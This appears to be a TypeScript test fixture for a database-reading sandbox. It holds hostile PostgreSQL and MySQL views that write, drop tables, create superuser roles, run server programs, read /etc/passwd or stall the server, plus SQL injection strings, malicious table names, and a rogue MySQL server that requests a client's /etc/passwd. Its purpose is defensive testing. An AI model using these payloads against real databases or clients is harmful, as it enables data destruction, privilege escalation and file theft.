import { createServer, type AddressInfo, type Server, type Socket } from 'node:net';

import type { TableTwin } from '../../sandbox/table-exchange.ts';

/** A view that looks like the table of licenses and does harm when it is read. */
export interface HostileView {
  readonly name: string;
  readonly title: string;
  readonly make: readonly string[];
  readonly remove: readonly string[];
}

const PG = '"CERT_LICENSE"';
const WRITES = `insert into ${PG} (cd_id) values (666)`;

function pgFunction(name: string, body: string, rest = 'security definer'): HostileView {
  return {
    name: `V_${name.toUpperCase()}`,
    title: name,
    make: [
      `create function f_${name}() returns boolean language plpgsql ${rest} as
         $$ begin ${body}; return true; end $$`,
      `create view "V_${name.toUpperCase()}" as select * from ${PG} where f_${name}()`,
    ],
    remove: [`drop view "V_${name.toUpperCase()}"`, `drop function f_${name}()`],
  };
}

function pgView(name: string, where: string): HostileView {
  return {
    name: `V_${name.toUpperCase()}`,
    title: name,
    make: [`create view "V_${name.toUpperCase()}" as select * from ${PG} where ${where}`],
    remove: [`drop view "V_${name.toUpperCase()}"`],
  };
}

const POSTGRES: readonly HostileView[] = [
  pgFunction('insert', WRITES),
  pgFunction('update', `update ${PG} set "ZZZT" = '注销'`),
  pgFunction('delete', `delete from ${PG}`),
  pgFunction('truncate', `truncate ${PG}`),
  pgFunction('drop', 'drop table "E_ALTER_RECODER"'),
  pgFunction('create', 'create table planted (x int)'),
  pgFunction('create_role', 'create role planted superuser'),
  pgFunction('read_write', `set transaction read write; ${WRITES}`),
  pgFunction(
    'read_only_off',
    `perform set_config('transaction_read_only', 'off', true); ${WRITES}`,
  ),
  pgFunction('session_off', `set session default_transaction_read_only = off; ${WRITES}`),
  pgFunction('caught', `begin ${WRITES}; exception when others then delete from ${PG}; end`),
  pgFunction('program', `copy (select 1) to program 'touch /tmp/planted'`),
  pgFunction('copy_file', `copy (select 1) to '/tmp/planted'`),
  pgFunction('large_object', `perform lo_from_bytea(0, 'x')`),
  pgFunction('endless', 'loop null; end loop'),
  pgFunction('no_timeout', `set local statement_timeout = 0; perform pg_sleep(30)`),
  pgFunction('read_file', `perform pg_read_file('/etc/passwd')`, ''),
  pgView('sleep', 'pg_sleep(30) is not null'),
  pgView(
    'cross',
    '(select count(*) from generate_series(1, 100000) a, generate_series(1, 100000) b) > 0',
  ),
  pgView('flood', `repeat('x', 100000000) = repeat('x', 100000000) and pg_sleep(0.4) is not null`),
];

const MY = '`CERT_LICENSE`';

function myFunction(name: string, body: string): HostileView {
  return {
    name: `V_${name.toUpperCase()}`,
    title: name,
    make: [
      `create function f_${name}() returns int not deterministic modifies sql data
         sql security definer begin ${body}; return 1; end`,
      `create sql security definer view V_${name.toUpperCase()} as
         select * from ${MY} where f_${name}() = 1`,
    ],
    remove: [`drop view V_${name.toUpperCase()}`, `drop function f_${name}`],
  };
}

function myView(name: string, where: string): HostileView {
  return {
    name: `V_${name.toUpperCase()}`,
    title: name,
    make: [
      `create sql security definer view V_${name.toUpperCase()} as select * from ${MY} where ${where}`,
    ],
    remove: [`drop view V_${name.toUpperCase()}`],
  };
}

const MYSQL: readonly HostileView[] = [
  myFunction('insert', 'insert into E_ALTER_RECODER (cd_id) values (666)'),
  myFunction('update', "update E_ALTER_RECODER set ALTBE = 'x'"),
  myFunction('delete', 'delete from E_ALTER_RECODER'),
  myFunction('replace', 'replace into E_ALTER_RECODER (cd_id) values (666)'),
  myFunction('for_update', 'select count(*) into @x from E_ALTER_RECODER for update'),
  myFunction('endless', 'while true do set @x = 1; end while'),
  myFunction('no_timeout', 'set max_statement_time = 0; set @x = sleep(30)'),
  myFunction(
    'read_write',
    'set tx_read_only = 0; insert into E_ALTER_RECODER (cd_id) values (666)',
  ),
  myView('sleep', 'sleep(30) = 0'),
  myView('benchmark', "benchmark(2000000000, sha2('x', 512)) = 0"),
  myView('load_file', "load_file('/etc/passwd') is not null"),
  myView(
    'cross',
    '(select count(*) from information_schema.collations a, information_schema.collations b, information_schema.collations c, information_schema.collations d) > 0',
  ),
  myView('flood', "length(repeat('x', 10000000)) > 0 and sleep(0.4) = 0"),
];

/** Everything a provider's views can do to whoever reads them. */
export function listHostileViews(dialect: TableTwin['dialect']): readonly HostileView[] {
  return dialect === 'postgresql' ? POSTGRES : MYSQL;
}

/** A login that may do more than read, and how it came by it. */
export interface GreedyLogin {
  readonly title: string;
  /** `$` stands for the login. */
  readonly grants: readonly string[];
  /** A right that must be named. */
  readonly right: string;
}

export const GREEDY_POSTGRES: readonly GreedyLogin[] = [
  { title: 'superuser', grants: ['alter role $ superuser'], right: 'SUPERUSER' },
  { title: 'bypasses RLS', grants: ['alter role $ bypassrls'], right: 'BYPASSRLS' },
  { title: 'creates databases', grants: ['alter role $ createdb'], right: 'CREATEDB' },
  { title: 'creates roles', grants: ['alter role $ createrole'], right: 'CREATEROLE' },
  { title: 'replicates', grants: ['alter role $ replication'], right: 'REPLICATION' },
  ...['INSERT', 'UPDATE', 'DELETE', 'TRUNCATE', 'REFERENCES', 'TRIGGER'].map((right) => ({
    title: right,
    grants: [`grant ${right} on "E_BASEINFO" to $`],
    right,
  })),
  { title: 'one column', grants: ['grant update ("NAME") on "E_BASEINFO" to $'], right: 'UPDATE' },
  {
    title: 'insert for all',
    grants: ['grant insert on "AO_OPA_DETAIL" to public'],
    right: 'INSERT',
  },
  { title: 'creates in a schema', grants: ['grant create on schema public to $'], right: 'CREATE' },
  { title: 'owner', grants: ['alter table "E_LI_ILLDISDETAIL" owner to $'], right: 'OWNER' },
  { title: 'writes all', grants: ['grant pg_write_all_data to $'], right: 'PG_WRITE_ALL_DATA' },
  {
    title: 'runs programs',
    grants: ['grant pg_execute_server_program to $'],
    right: 'PG_EXECUTE_SERVER_PROGRAM',
  },
  {
    title: 'a role it does not inherit',
    grants: ['alter role $ noinherit', 'grant pg_write_server_files to $'],
    right: 'PG_WRITE_SERVER_FILES',
  },
  {
    title: 'sequence',
    grants: ['create sequence if not exists s_planted', 'grant usage on sequence s_planted to $'],
    right: 'SEQUENCE',
  },
];

export const GREEDY_MYSQL: readonly GreedyLogin[] = [
  { title: 'everything', grants: ['grant all on *.* to $'], right: 'ALL PRIVILEGES' },
  ...[
    'INSERT',
    'UPDATE',
    'DELETE',
    'CREATE',
    'DROP',
    'ALTER',
    'INDEX',
    'TRIGGER',
    'LOCK TABLES',
    'EXECUTE',
    'CREATE TEMPORARY TABLES',
    'CREATE VIEW',
  ].map((right) => ({ title: right, grants: [`grant ${right} on DB.* to $`], right })),
  ...['FILE', 'SUPER', 'PROCESS', 'RELOAD', 'SHUTDOWN', 'CREATE USER'].map((right) => ({
    title: right,
    grants: [`grant ${right} on *.* to $`],
    right,
  })),
  { title: 'one column', grants: ['grant update (NAME) on DB.E_BASEINFO to $'], right: 'UPDATE' },
  { title: 'one table', grants: ['grant delete on DB.E_BASEINFO to $'], right: 'DELETE' },
  {
    title: 'hands on',
    grants: ['grant select on DB.E_BASEINFO to $ with grant option'],
    right: 'GRANT OPTION',
  },
  {
    title: 'a role of a role',
    grants: [
      'create role if not exists `odd ON ?role`',
      'create role if not exists inner_role',
      'grant insert on DB.* to inner_role',
      'grant inner_role to `odd ON ?role`',
      'grant `odd ON ?role` to $',
    ],
    right: 'INSERT',
  },
  { title: 'insert for all', grants: ['grant insert on DB.E_BASEINFO to public'], right: 'INSERT' },
];

/** Texts that have become SQL somewhere before. */
export const INJECTIONS: readonly string[] = [
  "' or '1'='1",
  "' or 1=1 -- ",
  "' or 1=1 # ",
  '" or ""="',
  "\\' or 1=1 -- ",
  '\\',
  "\\\\' or 1=1 -- ",
  "'; drop table CERT_LICENSE; -- ",
  "') union all select * from CERT_LICENSE -- ",
  "'/**/or/**/1=1/*",
  '\u00bf\u0027 or 1=1 -- ',
  '\u5b57\u005c\u0027 or 1=1 -- ',
  '＇ or 1=1 -- ',
  '%',
  '_'.repeat(18),
  '*',
  '0',
  '0x00',
  'true',
  '1e308',
  '?',
  '??',
  '$1',
  ':name',
  '${x}',
  '{{x}}',
  '$$; drop table "CERT_LICENSE"; $$',
  'E\\x27',
  '\u{1F4A3}'.repeat(500),
  'x'.repeat(100_000),
  '\ud800',
  "a\nb\r\nc' or 1=1",
];

/** Names of columns and tables that are none. */
export const BAD_NAMES: readonly string[] = [
  'CERT_LICENSE"; drop table "CERT_LICENSE',
  'CERT_LICENSE`; drop table `CERT_LICENSE',
  'CERT_LICENSE; delete from CERT_LICENSE',
  'CERT_LICENSE -- ',
  'CERT_LICENSE/*',
  'CERT_LICENSE as x',
  'a.b.c',
  '.x',
  'x.',
  '',
  ' ',
  '1x',
  '*',
  "x'",
  'x y',
  'x\0',
  'x\ny',
  '表',
  'ｘ',
  'x'.repeat(64),
  '(select 1)',
  'pg_sleep(9)',
  '??',
];

/** A server that speaks MySQL up to the login and then asks for a file of the hub's machine. */
export async function startThief(): Promise<{
  readonly port: number;
  /** Whatever was received after a file was asked for. */
  stolen(): string;
  stop(): Promise<void>;
}> {
  const sockets = new Set<Socket>();
  let stolen = '';
  const server: Server = createServer((socket) => {
    sockets.add(socket);
    socket.on('error', () => undefined);
    let step = 0;
    socket.write(packet(0, greeting()));
    socket.on('data', (bytes) => {
      step += 1;
      if (step === 1) socket.write(packet(2, Buffer.from([0, 0, 0, 2, 0, 0, 0])));
      else if (step === 2) socket.write(packet(1, Buffer.from('\u00fb/etc/passwd', 'latin1')));
      else stolen += bytes.toString('latin1');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    stolen: () => stolen,
    async stop() {
      sockets.forEach((socket) => socket.destroy());
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

function packet(sequence: number, body: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUIntLE(body.length, 0, 3);
  head[3] = sequence;
  return Buffer.concat([head, body]);
}

/** Protocol 10, with CLIENT_LOCAL_FILES among what the server can do. */
function greeting(): Buffer {
  return Buffer.concat([
    Buffer.from([10]),
    Buffer.from('8.0.0-thief\0', 'latin1'),
    Buffer.from([1, 0, 0, 0]),
    Buffer.from('12345678\0', 'latin1'),
    Buffer.from([0xff, 0xf7, 33, 2, 0, 0x0f, 0x80, 21]),
    Buffer.alloc(10),
    Buffer.from('123456789012\0', 'latin1'),
    Buffer.from('mysql_native_password\0', 'latin1'),
  ]);
}
